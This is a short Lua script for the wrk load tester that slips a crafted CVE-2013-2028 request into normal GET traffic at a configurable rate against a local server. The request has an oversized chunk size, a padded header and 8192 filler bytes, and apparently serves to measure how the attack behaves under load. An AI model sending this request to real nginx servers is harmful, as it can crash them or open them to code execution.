-- wrk script: every EVERY-th request of the connection thread is the
-- CVE-2013-2028 request (see attack.py: chunk size FFFFFFFFFFFFFFED, the
-- header padded to 1024 bytes, 8192 bytes of payload); the others are
-- GET /index.html.  EVERY = 0: no attack.
local every = tonumber(os.getenv("ATTACK_EVERY") or "0")
local n = 0
local normal, evil

init = function(args)
  normal = wrk.format("GET", "/index.html")
  local head = "GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\n" ..
               "Transfer-Encoding: chunked\r\n"
  local chunk = "FFFFFFFFFFFFFFED\r\n"
  local fixed = #head + #"X-Pad: \r\n\r\n" + #chunk
  local raw = head .. "X-Pad: " .. string.rep("p", 1024 - fixed) .. "\r\n\r\n" .. chunk
  assert(#raw == 1024)
  evil = raw .. string.rep("A", 8192)
end

request = function()
  n = n + 1
  if every > 0 and n % every == 0 then return evil end
  return normal
end
